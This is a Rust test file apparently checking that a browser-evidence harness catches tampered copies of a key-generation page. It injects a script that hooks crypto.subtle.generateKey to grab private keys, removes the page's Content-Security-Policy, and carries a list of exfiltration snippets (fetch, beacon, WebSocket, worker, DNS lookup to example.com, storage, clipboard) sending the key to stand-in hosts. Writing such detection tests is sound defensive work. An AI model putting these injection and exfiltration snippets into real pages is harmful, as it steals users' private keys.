//! The search for secrets can find them: copies of the page that carry the key off are caught.

use std::{collections::BTreeSet, fs, path::Path};

use anyhow::{Context, Result, ensure};
use tests::{
    browser::Browser,
    leak::Marks,
    openssl, page,
    rehearsal::{self, Rehearsal, Served, write},
    tab::Tab,
};

use crate::evidence::{Evidence, MEMORY, marks};

#[tokio::test]
async fn a_page_that_leaks_the_key_is_caught() -> Result<()> {
    let rehearsal = Rehearsal::provisioned("udp")?;
    for (at, Way { name, code, shows }) in WAYS.iter().enumerate() {
        let copy = tempfile::tempdir()?;
        leaking_copy(&rehearsal.site(), copy.path(), code)?;
        let served = Served::folder(copy.path())?;
        let (evidence, marks) =
            visit(&rehearsal, &served.url, &format!("user-{at}")).await.with_context(|| format!("leaking {name}"))?;
        let left = evidence.nothing_left_the_page(&served.url);
        let found = evidence.the_key_is_nowhere_else(&rehearsal, &marks);
        ensure!(left.is_err() || found.is_err(), "the key was carried off {name}, and nobody noticed");
        ensure!(found.is_err() == *shows, "{name}: the search for the key itself says {found:?}");
    }
    every_place_is_looked_at(&rehearsal).await
}

/// A page that puts the key into every place at once, and what is typed into one: none of them is overlooked.
async fn every_place_is_looked_at(rehearsal: &Rehearsal) -> Result<()> {
    let copy = tempfile::tempdir()?;
    leaking_copy(&rehearsal.site(), copy.path(), EVERYWHERE)?;
    write(&copy.path().join("worker.js"), "")?;
    let served = Served::folder(copy.path())?;

    let browser = Browser::open_watched(&served.url).await?;
    page::make_request(&browser, "alice").await?;
    browser
        .evaluate("new Promise(done => (function look() { window.leaked ? done(true) : setTimeout(look, 20) })())")
        .await?;
    browser.evaluate(page::UNFOLD).await?;
    page::back_up(&browser, PASSPHRASE).await?;
    let backup = browser.downloaded("alice-key.pem").await?;
    let folder = tempfile::tempdir()?;
    write(&folder.path().join("passphrase"), PASSPHRASE)?;
    let backup = backup.display().to_string();
    openssl::run(folder.path(), &["pkcs8", "-in", &backup, "-passin", "file:passphrase", "-out", "opened.key"])?;
    let key = Marks::of(&openssl::secret_numbers(folder.path(), "opened.key")?);
    // The page takes what its address says out of it, and behind another window nothing could be clicked any more.
    browser.evaluate("(last(), true)").await?;
    let evidence = Evidence::collect(browser).await?;

    let expected: BTreeSet<_> = PLACES.iter().map(|place| (*place).to_owned()).collect();
    let found = evidence.shows(&key);
    let stopped: Vec<_> = evidence.record.console.iter().filter(|line| line.contains("not everywhere")).collect();
    ensure!(stopped.is_empty(), "the key could not be put everywhere: {stopped:?}");
    let overlooked: Vec<_> = expected.difference(&found).collect();
    ensure!(overlooked.is_empty(), "the key was put there, and nobody noticed: {overlooked:?} of {found:?}");
    let found = evidence.shows(&Marks::of(&[]).and_of(PASSPHRASE));
    ensure!(found.contains("session storage"), "the passphrase was kept, and nobody noticed: {found:?}");
    ensure!(!evidence.readable_keys().is_empty(), "a key that scripts can read was kept, and nobody noticed");
    let started = &evidence.record.started;
    ensure!(
        started.iter().any(|it| it.starts_with("service_worker")),
        "nobody noticed the service worker: {started:?}"
    );
    let lookups = &evidence.record.lookups;
    // The log has what the name was mapped to.
    ensure!(lookups.iter().any(|name| !served.url.starts_with(name)), "nobody noticed what was looked up: {lookups:?}");
    Ok(())
}

async fn visit(rehearsal: &Rehearsal, url: &str, username: &str) -> Result<(Evidence, Marks)> {
    let folder = rehearsal.path();
    let browser = Browser::open(url, 1280, 900).await?;
    let (csr, crt, ovpn) = (format!("{username}.csr"), format!("{username}.crt"), format!("{username}.ovpn"));
    fs::copy(page::make_request(&browser, username).await?, folder.join(&csr))?;
    rehearsal.run(&["sign", &csr, "--out", &crt, "--yes"])?;
    rehearsal.withhold()?;
    page::go_on(&browser).await?;
    page::paste(&browser, &folder.join(&crt)).await?;
    fs::copy(page::save_profile(&browser, username).await?, folder.join(&ovpn))?;
    // What a page sends when it has all it wants is sent soon; a record that ends too early would miss it.
    browser.evaluate("new Promise(done => setTimeout(() => done(true), 300))").await?;
    Ok((Evidence::collect(browser).await?, marks(folder, &ovpn)?))
}

/// The page in `site`, without its policy, and with a script that gets hold of the key and runs `code` with it.
fn leaking_copy(site: &Path, copy: &Path, code: &str) -> Result<()> {
    rehearsal::copy(site, copy)?;
    let headers = fs::read_to_string(copy.join("_headers"))?;
    let without_policy: Vec<_> = headers.lines().filter(|line| !line.contains("Content-Security-Policy")).collect();
    write(&copy.join("_headers"), without_policy.join("\n") + "\n")?;
    let index = fs::read_to_string(copy.join("index.html"))?;
    let index = index.replacen("http-equiv", "data-removed", 1);
    ensure!(!index.contains("http-equiv=\"Content-Security-Policy\""), "the policy is still there");
    let (before, after) = index.split_once("<head>").context("the page's head")?;
    let script = format!("<script>{HOOK} const leak = (der, pem, hex, key) => {{ {code} }};</script>");
    write(&copy.join("index.html"), format!("{before}<head>{script}{after}"))
}

/// Sees every key that is made, whether the page exports it or not.
const HOOK: &str = r#"
    const generate = crypto.subtle.generateKey.bind(crypto.subtle);
    crypto.subtle.generateKey = async (...arguments) => {
        const made = await generate(...arguments);
        if (made.privateKey) {
            const der = new Uint8Array(await crypto.subtle.exportKey('pkcs8', made.privateKey));
            const hex = [...der].map(byte => byte.toString(16).padStart(2, '0')).join('');
            const pem = btoa(String.fromCharCode(...der)).replace(/.{64}/g, '$&\n');
            leak(der, pem, hex, made.privateKey);
        }
        return made;
    };"#;

/// A way to carry the key off.
struct Way {
    name: &'static str,
    code: &'static str,
    /// Whether the key itself shows in the record: what was to be sent to a closed port never was, and what was cut
    /// into pieces cannot be told from anything else. Then it is the request that is noticed.
    shows: bool,
}

const WAYS: &[Way] = &[
    Way {
        name: "in the body of a request to the page's own origin",
        code: "fetch('collect', { method: 'POST', body: der });",
        shows: true,
    },
    Way {
        name: "in the address of a request to the page's own origin",
        code: "fetch('collect?' + encodeURIComponent(hex));",
        shows: true,
    },
    Way {
        name: "in a request to another origin",
        code: "fetch('http://127.0.0.1:9/' + hex, { mode: 'no-cors' });",
        shows: true,
    },
    Way { name: "in a beacon", code: "navigator.sendBeacon('http://127.0.0.1:9/', pem);", shows: false },
    Way { name: "through a WebSocket", code: "new WebSocket('ws://127.0.0.1:9/' + hex);", shows: true },
    Way {
        name: "by a worker",
        code: "new Worker(URL.createObjectURL(new Blob([`fetch('http://127.0.0.1:9/${hex}')`])));",
        shows: true,
    },
    Way { name: "by an image", code: "new Image().src = 'collect?' + hex;", shows: true },
    Way {
        name: "by a name to be looked up",
        code: "fetch('http://' + hex.slice(400, 440) + '.example.com/').catch(() => 0);",
        shows: false,
    },
    Way { name: "to the console", code: "console.log(pem);", shows: true },
    Way { name: "into the storage", code: "localStorage.setItem('key', pem);", shows: true },
];

/// Where [`EVERYWHERE`] puts the key, by the names under which it is found there.
const PLACES: &[&str] = &[
    "address",
    "caches",
    "clipboard",
    "console",
    "cookies",
    "databases",
    "document",
    "download: collected.txt",
    "fields",
    "files",
    "heading",
    "history state",
    "letter",
    "local storage",
    "location",
    MEMORY,
    "message",
    "notification",
    "peer",
    "share",
    "state",
    "title",
    "user profile: History",
    "what was sent",
    "window",
    "window name",
    "worker",
];

const EVERYWHERE: &str = r#"(async () => {
    const done = request => new Promise((ok, no) => (request.onsuccess = () => ok(request.result), request.onerror = no));
    const link = (name, fields) => Object.assign(document.createElement(name), fields);
    console.log(pem);
    navigator.clipboard.writeText(pem);
    navigator.share({ files: [new File([pem], 'key.txt')] });
    link('a', { href: 'mailto:somebody@example.com?body=' + encodeURIComponent(pem) }).click();
    link('a', { href: URL.createObjectURL(new Blob([pem])), download: 'collected.txt' }).click();
    new Notification(pem);
    new BroadcastChannel('keys').postMessage(pem);
    new Worker('worker.js?' + hex);
    new RTCPeerConnection({ iceServers: [{ urls: 'turn:127.0.0.1:9', username: hex.slice(700, 900), credential: 'x' }] });
    window.last = () => (history.replaceState({ key: pem }, '', '#' + hex), open('about:blank#' + hex));
    window.name = pem;
    document.title = hex;
    localStorage.setItem('key', pem);
    document.cookie = 'key=' + hex.slice(200, 2000);
    document.body.append(link('p', { hidden: true, textContent: hex }));
    document.querySelector('#restore input').value = hex;
    document.addEventListener('input', ({ target }) => sessionStorage.setItem('typed', target.value));
    document.head.append(link('link', { rel: 'dns-prefetch', href: '//prefetched.example.com' }));
    const end = moduleMemory.grow(1) * 65536;
    new Uint8Array(moduleMemory.buffer).set(der, end);
    // Under a debugger, which the driver is, a worker need not come as far as being registered.
    navigator.serviceWorker.register('worker.js');
    await (await caches.open('keys')).put('key', new Response(pem));
    const file = await (await (await navigator.storage.getDirectory()).getFileHandle('key', { create: true })).createWritable();
    await file.write(pem);
    await file.close();
    const opening = indexedDB.open('keys');
    opening.onupgradeneeded = () => opening.result.createObjectStore('keys');
    const database = await done(opening);
    const store = database.transaction('keys', 'readwrite').objectStore('keys');
    await done(store.put(der, 'bytes'));
    await done(store.put(key, 'handle'));
    database.close();
})().catch(error => console.log('not everywhere: ' + error)).finally(() => window.leaked = true);"#;

const PASSPHRASE: &str = "many words and two dozen more";
